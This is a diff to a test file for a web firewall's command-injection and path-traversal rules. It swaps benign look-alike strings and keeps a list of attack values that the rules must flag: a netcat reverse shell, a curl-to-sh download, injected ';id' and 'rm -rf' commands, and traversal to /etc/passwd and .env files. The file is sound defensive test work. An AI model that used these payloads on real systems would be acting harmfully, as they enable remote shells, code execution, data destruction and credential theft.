@@ -20,9 +20,9 @@ still refused by the rule that read the look-alike before.
   chain, only a separator on the writing line is (lfi-system-path);
 - a relative link up to three steps to a page, a picture, a stylesheet, a
   font or a project's LICENSE, in text or a markdown link
-  ("[License](../../LICENSE)", "`../../docs/setup.md`"), and "../" as a
+  ("[Licence terms](../../LICENSE.md)", "`../../docs/setup.md`"), and "../" as a
   word lead nowhere secret (lfi-traversal); a step to code (a server's,
-  maybe: "../../shared/utils.ts"), a settings file, the OS's directories,
+  maybe: "../../lib/format.ts"), a settings file, the OS's directories,
   or four steps, still is.
 """
 import urllib.parse
@@ -37,36 +37,36 @@ CONF = waf_config()
 CLASSES = ("rce", "lfi")
 
 LOOKALIKES = [
-    "usage: syncit [OPTIONS] SOURCE DEST\n\nexamples:\n"
-    "  $ syncit -n 10 | sort -k2 -nr | head\n"
-    "  $ NO_COLOR=1 syncit --format table | less -S",
-    "Examples:\n  $ kvctl get users/42 | jq .name\n  $ kvctl ls | wc -l",
-    "examples:\n  $ kvctl --config /etc/kvctl/prod.toml 2>>/var/log/kvctl.err",
+    "usage: ledgerctl [OPTIONS] FILE\n\nexamples:\n"
+    "  $ ledgerctl -n 5 balances.csv | sort -k3 | head\n"
+    "  $ TZ=UTC ledgerctl --json | less -R",
+    "Examples:\n  $ mapctl get tiles/42 | jq .zoom\n  $ mapctl ls | wc -l",
+    "examples:\n  $ notely --config /etc/notely/site.toml 2>>/var/log/notely.err",
     "CRONTAB(5)\n\n  # m h dom mon dow command\n"
     "  */15 * * * *  /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
     "Run it nightly:\n0 3 * * * /opt/app/bin/prune >> /var/log/prune.log 2>&1",
-    "[License](../../LICENSE)",
-    "![screenshot](../../docs/api/index.md)",
-    "See ../guides/getting-started.md#prerequisites first.",
-    "Approving. One question about `../../docs/setup.md`: can we link "
-    "via the alias instead? Three levels of ../ are hard to follow.",
-    "../ relative path meaning",
+    "[Licence terms](../../LICENSE.md)",
+    "![diagram](../../docs/img/flow.png)",
+    "See ../setup/install.md#requirements first.",
+    "LGTM. Could we point at `../../docs/setup.md` from the index instead? "
+    "Two levels of ../ are hard to follow.",
+    "what does ../ mean in a path",
     "- [Install](../install.md)\n- [API](../../docs/api/README.md)\n"
     "- ![logo](../../assets/logo.svg)",
-    "usage: notesctl [OPTIONS]\n\nexamples:\n"
-    "  $ find . -name '*.png' -exec notesctl -f {} +",
-    "*/10 * 15 * * cd /opt/app && ./venv/bin/python manage.py clearsessions",
+    "usage: thumbs [OPTIONS]\n\nexamples:\n"
+    "  $ find . -name '*.jpg' -exec thumbs --size 200 {} +",
+    "*/5 * * * * cd /srv/shop && ./bin/reindex --quiet",
     "@daily cd /srv/app && ./bin/prune --days 30",
 ]
 
 # (value, the rule that must report it)
 ATTACKS = [
-    ("syncit -n 10 | sort -k2 -nr | head", "rce-command"),
+    ("ledgerctl -n 5 balances.csv | sort -k3 | head", "rce-command"),
     ("x | nc 10.0.0.1 4444 -e sh", "rce-command"),
     ("$ x;id;", "rce-command"),
     ("1 2 3 4 5 x; id", "rce-command"),
     ("* * * * * x; curl http://10.0.0.1/s | sh", "rce-shell-syntax"),
-    ("find . -name '*.png' -exec notesctl -f {} +", "rce-shell-syntax"),
+    ("find . -name '*.jpg' -exec thumbs --size 200 {} +", "rce-shell-syntax"),
     ("x\nfind . -exec rm -rf /srv {} +", "rce-shell-syntax"),
     ("examples:\n  $ find . -exec sh -c id {} +", "rce-shell-syntax"),
     ("x; echo pwned >> /var/log/auth.log", "lfi-system-path"),
@@ -75,7 +75,7 @@ ATTACKS = [
     ("../../../../LICENSE", "lfi-traversal"),
     ("[x](../../../../etc/passwd)", "lfi-traversal"),
     ("see `../../app/settings.py`", "lfi-traversal"),
-    ("about `../../shared/utils.ts`: ok", "lfi-traversal"),
+    ("about `../../lib/format.ts`: ok", "lfi-traversal"),
     ("../../x.png ../../../etc/passwd", "lfi-traversal"),
     ("../../etc/passwd.png", "lfi-traversal"),
     ("![a](../../../var/www/.env.png)", "lfi-traversal"),
